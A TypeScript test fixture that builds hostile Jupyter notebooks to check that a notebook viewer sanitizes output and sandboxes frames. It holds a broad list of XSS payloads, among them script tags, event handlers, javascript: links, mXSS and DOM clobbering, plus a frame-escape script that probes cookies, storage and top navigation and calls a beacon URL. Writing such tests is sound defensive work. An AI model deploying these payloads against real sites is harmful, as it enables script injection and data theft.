// Hostile notebooks written for the browser tests. Every payload, if it ever ran in the page, would set the
// marker of hostile-marker.ts; payloads inside output frames try to reach the page, its storage and the network,
// and write what happened into their own document for the test to read.
import type { JsonObject } from "../../src/notebook/types.ts";
import { markScript as mark, PWNED_ATTRIBUTE } from "./hostile-marker.ts";

/** Payloads for markdown cells and the notebook's own strings (title, tags, metadata). */
export function pageAttackNotebook(beaconUrl: string): JsonObject {
  const markdown = [
    `<script>${mark("md-script")}</script>`,
    `<img src="x" onerror="${mark("md-onerror")}">`,
    `<svg><script>${mark("md-svg-script")}</script></svg><svg onload="${mark("md-svg-onload")}"></svg>`,
    `<a id="js-link" href="javascript:${mark("md-js-link")}">javascript link</a>`,
    `[markdown js link](javascript:${mark("md-md-link")})`,
    `<a id="data-link" href="data:text/html,<script>alert(1)</script>">data link</a>`,
    `<iframe srcdoc="<script>parent.${mark("md-iframe")}</script>"></iframe>`,
    `<math><mtext><table><mglyph><style><img src=x onerror="${mark("md-mxss")}">`,
    `<form action="${beaconUrl}form"><input name="q"><button id="form-button">Run</button></form>`,
    `<div id="overlay" style="position:fixed;top:0;left:0;width:100vw;height:100vh;background:red;z-index:99999">FAKE RUN BUTTON</div>`,
    `<base href="${beaconUrl}base/"><meta http-equiv="refresh" content="0;url=${beaconUrl}refresh"><link rel="stylesheet" href="${beaconUrl}css">`,
    `<img id="remote" src="${beaconUrl}img.png" alt="remote">`,
    `<details open ontoggle="${mark("md-ontoggle")}"><summary>details</summary>inside</details>`,
    `Math link: $\\href{javascript:${mark("md-katex")}}{click}$ and $\\url{javascript:alert(1)}$`,
    `<object data="${beaconUrl}object"></object><embed src="${beaconUrl}embed">`,
    `<style>body{display:none}</style><p class="vt-page">class confusion</p>`,
    `<a id="clobber" name="createElement">clobber</a><img name="getElementById">`,
  ];
  return {
    nbformat: 4,
    nbformat_minor: 5,
    metadata: {
      title: `TITLE</title><script>${mark("title")}</script>`,
      kernelspec: { name: "python3", display_name: `<img src=x onerror="${mark("kernel")}">`, language: "python" },
    },
    cells: [
      // One payload a cell, so that one which swallows what follows it (unclosed <math>, <style>) hides no other.
      ...markdown.map((source, i) => ({ cell_type: "markdown", id: `md-${i}`, metadata: {}, source })),
      {
        cell_type: "code",
        id: "tags",
        execution_count: 1,
        metadata: { tags: [`"><script>${mark("tag")}</script>`] },
        source: `print("<script>${mark("source")}</script>")`,
        outputs: [
          { output_type: "stream", name: "stdout", text: `<script>${mark("stream")}</script>\n` },
          {
            output_type: "display_data",
            metadata: { width: `"><script>${mark("width")}</script>`, "image/png": { height: "100 onload=x" } },
            data: { "image/png": `"><script>${mark("png")}</script>`, "text/plain": "png" },
          },
          {
            output_type: "error",
            ename: `<script>${mark("ename")}</script>`,
            evalue: "<img src=x onerror=alert(1)>",
            traceback: [`\u001b[31m<script>${mark("traceback")}</script>\u001b[0m`],
          },
        ],
      },
      {
        cell_type: "raw",
        id: "raw",
        metadata: { format: `"><script>${mark("raw-format")}</script>` },
        source: `<script>${mark("raw")}</script>`,
      },
    ],
  };
}

/** A script an output frame runs: every way out of the frame it tries is recorded in its own document. */
export function frameEscapeScript(beaconUrl: string, label: string): string {
  return `(async () => {
  const results = {};
  const attempt = async (name, fn) => { try { results[name] = 'allowed:' + String(await fn()); } catch (e) { results[name] = 'blocked:' + (e && e.name); } };
  await attempt('parentDocument', () => { parent.document.documentElement.setAttribute('${PWNED_ATTRIBUTE}', 'frame-${label}'); return 'wrote'; });
  await attempt('topLocationRead', () => top.location.href);
  await attempt('cookie', () => document.cookie);
  await attempt('localStorage', () => localStorage.getItem('x'));
  await attempt('sessionStorage', () => sessionStorage.getItem('x'));
  await attempt('indexedDB', () => indexedDB.open('x') && 'opened');
  await attempt('fetch', async () => (await fetch('${beaconUrl}fetch-${label}')).status);
  await attempt('xhr', () => new Promise((ok, fail) => { const x = new XMLHttpRequest(); x.open('GET', '${beaconUrl}xhr-${label}'); x.onload = () => ok(x.status); x.onerror = () => fail(new Error('network')); x.send(); }));
  await attempt('image', () => new Promise((ok, fail) => { const i = new Image(); i.onload = () => ok('loaded'); i.onerror = () => fail(new Error('image')); i.src = '${beaconUrl}img-${label}'; }));
  await attempt('windowOpen', () => { const w = window.open('${beaconUrl}open-${label}'); if (!w) throw new Error('no window'); return 'opened'; });
  await attempt('topNavigation', () => { top.location.href = '${beaconUrl}nav-${label}'; return 'navigated'; });
  await attempt('alert', () => { alert('x'); return 'shown'; });
  document.body.setAttribute('data-escape-results', JSON.stringify(results));
})();`;
}

export function frameAttackNotebook(beaconUrl: string): JsonObject {
  const html = `<p>html output</p><script>${frameEscapeScript(beaconUrl, "html")}</script>`;
  const svg = `<svg xmlns="http://www.w3.org/2000/svg" width="50" height="20"><script>${frameEscapeScript(beaconUrl, "svg")}</script><text x="2" y="15">svg</text></svg>`;
  return {
    nbformat: 4,
    nbformat_minor: 5,
    metadata: { kernelspec: { name: "python3", display_name: "Python 3", language: "python" } },
    cells: [
      {
        cell_type: "code",
        id: "html",
        execution_count: 1,
        metadata: {},
        source: "HTML(...)",
        outputs: [{ output_type: "display_data", metadata: {}, data: { "text/html": html, "text/plain": "<HTML>" } }],
      },
      {
        cell_type: "code",
        id: "js",
        execution_count: 2,
        metadata: {},
        source: "Javascript(...)",
        outputs: [
          {
            output_type: "display_data",
            metadata: {},
            data: { "application/javascript": frameEscapeScript(beaconUrl, "js") },
          },
        ],
      },
      {
        cell_type: "code",
        id: "svg",
        execution_count: 3,
        metadata: {},
        source: "SVG(...)",
        outputs: [{ output_type: "execute_result", execution_count: 3, metadata: {}, data: { "image/svg+xml": svg } }],
      },
      {
        cell_type: "code",
        id: "md-output",
        execution_count: 4,
        metadata: {},
        source: "Markdown(...)",
        outputs: [
          {
            output_type: "display_data",
            metadata: {},
            data: {
              "text/markdown": `# heading\n\n<script>${frameEscapeScript(beaconUrl, "markdown")}</script>\n\n<img src="${beaconUrl}md-output-img">`,
            },
          },
        ],
      },
    ],
  };
}
